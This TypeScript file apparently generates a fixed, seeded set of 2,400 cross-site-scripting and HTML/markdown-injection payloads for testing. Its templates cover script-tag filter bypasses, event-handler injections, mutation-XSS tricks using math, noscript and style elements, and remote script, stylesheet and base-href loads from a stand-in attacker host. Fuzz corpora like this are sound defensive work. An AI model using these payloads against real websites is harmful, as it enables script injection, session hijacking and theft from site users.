import {
  ATTRIBUTES,
  CELLS,
  CLOSERS,
  CODE,
  EVENTS,
  EVIL,
  HOSTS,
  INVISIBLE,
  LINES,
  SCHEMES,
  SPACES,
  TAGS,
  TEMPLATES,
} from './payload-words.ts';
import { seededRandom } from './random.ts';

type Maker = (random: ReturnType<typeof seededRandom>) => string;

const code: Maker = ({ pick }) => pick(CODE);
const mixed: Maker = ({ below, pick }) =>
  [...pick(TAGS)].map((letter) => (below(3) === 0 ? letter.toUpperCase() : letter)).join('');
const url: Maker = (random) =>
  random.below(3) === 0 ? `${random.pick(HOSTS)}/x.gif` : `${random.pick(SCHEMES)}${code(random)}`;
const quote = (text: string, { pick }: ReturnType<typeof seededRandom>) => {
  const mark = pick(['"', "'", '', '`']);
  return `${mark}${text}${mark}`;
};
const tag: Maker = (random) => {
  const { pick, below } = random;
  const handler = `${pick(EVENTS)}=${quote(code(random), random)}`;
  const attribute = `${pick(ATTRIBUTES)}=${quote(url(random), random)}`;
  const parts = [
    `<${mixed(random)}`,
    below(2) === 0 ? attribute : 'src=x',
    handler,
    ...(below(3) === 0 ? ['autofocus tabindex=1'] : []),
  ];
  return `${parts.join(pick(SPACES))}${pick(['>', '/>', '', ' ', '>x', `>${code(random)}</`])}`;
};
const script: Maker = (random) =>
  random.pick([
    `<script>${code(random)}</script>`,
    `<ScRiPt >${code(random)}</sCrIpT >`,
    `<script src=//${EVIL}/x.js></script>`,
    `<script>${code(random)}//`,
    `<scr<script>ipt>${code(random)}</scr</script>ipt>`,
    `<svg><script>${code(random)}</script></svg>`,
    `<svg><style><img src=x onerror=${code(random)}></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code(random)}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${code(random)}>">`,
    `<template><script>${code(random)}</script></template>`,
    `<style>@import '//${EVIL}/x.css';</style>`,
    `<style>*{background:url(//${EVIL}/x)}</style>`,
    `<iframe srcdoc="<script>parent.${code(random)}</script>">`,
    `<meta http-equiv=refresh content="0;url=${url(random)}">`,
    `<base href=//${EVIL}/>`,
    `<form action=${url(random)}><button>x</button></form>`,
    `<link rel=stylesheet href=//${EVIL}/x.css>`,
    `<object data=${url(random)}></object>`,
    `<a href=${quote(url(random), random)}>x</a>`,
    `<details open ontoggle=${code(random)}>`,
    `<img srcset="//${EVIL}/x.gif 1x">`,
    `<!--><img src=x onerror=${code(random)}>-->`,
    `<![CDATA[<img src=x onerror=${code(random)}>]]>`,
    `<?php ${code(random)} ?>`,
  ]);
const markdown: Maker = (random) => {
  const inside = random.below(2) === 0 ? url(random) : tag(random);
  return random.pick([
    `[x](${url(random)})`,
    `[x](<${url(random)}>)`,
    `[x](${url(random)} "${tag(random)}")`,
    `![x](${url(random)})`,
    `[x][y]\n\n[y]: ${url(random)}`,
    `<${url(random)}>`,
    `**${tag(random)}**`,
    `> ${tag(random)}`,
    `- ${script(random)}`,
    `\`${inside}\``,
    `\`\`\`\n${inside}\n\`\`\``,
    `    ${inside}`,
    `### ${tag(random)}`,
    `[${tag(random)}](https://x.example/)`,
    `\\<${tag(random).slice(1)}`,
    `&lt;${tag(random).slice(1)}`,
    `*${inside}*`,
    `x  \n${inside}`,
    `[x](https://x.example/${encodeURIComponent(tag(random))})`,
    `[x](https://x.example/?a="${random.pick(EVENTS)}=${code(random)})`,
    `<div>\n\n${inside}\n\n</div>`,
    `1. ${inside}\n   ${inside}`,
  ]);
};
const breaker: Maker = (random) =>
  `${random.pick(['', 'x', 'Ilta'])}${random.pick(CLOSERS)}${random.pick([tag(random), script(random), random.pick(LINES), ''])}`;
const plain: Maker = ({ pick }) => `${pick(['', 'x ', 'Ilta '])}${pick([...CELLS, ...TEMPLATES, ...LINES, ...HOSTS])}`;
const unseen: Maker = (random) => `Ilta${random.pick(INVISIBLE)}${random.pick(['', 'x', script(random)])}`;

const MAKERS: readonly Maker[] = [tag, script, markdown, url, breaker, plain, unseen, tag, markdown];

/** So many different payloads, the same in every run. */
export function makePayloads(count: number, seed = 20_261_126): string[] {
  const random = seededRandom(seed);
  const made = new Set<string>();
  for (let tries = 0; made.size < count; tries++) {
    if (tries > count * 50) throw new Error('The grammar has no more payloads');
    made.add(random.pick(MAKERS)(random));
  }
  return [...made];
}

/** The payloads of every run. */
export const PAYLOADS: readonly string[] = makePayloads(2400);
